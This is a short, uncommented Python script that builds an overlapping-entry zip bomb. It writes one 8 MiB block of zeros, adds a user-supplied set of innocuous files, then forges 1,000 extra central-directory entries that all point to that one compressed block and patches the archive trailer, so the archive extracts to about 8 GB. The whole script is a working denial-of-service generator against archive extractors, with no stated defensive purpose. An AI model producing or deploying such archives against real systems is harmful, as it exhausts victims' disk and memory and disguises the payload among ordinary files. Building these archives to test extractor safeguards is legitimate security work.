import struct
import sys
import zipfile
from pathlib import Path

honest, target = map(Path, sys.argv[1:])
with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("zeros", bytes(8 << 20))
    for path in honest.iterdir():
        archive.write(path, path.name)
content = target.read_bytes()
begin = content.index(b"PK\1\2")
end = content.index(b"PK\5\6")
first = content[begin : content.index(b"PK\1\2", begin + 4)]
listed = content[begin:end] + b"".join(first.replace(b"zeros", b"%05d" % number) for number in range(1_000))
count = 1_000 + 1 + len(list(honest.iterdir()))
target.write_bytes(content[:begin] + listed + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(listed), begin, 0))
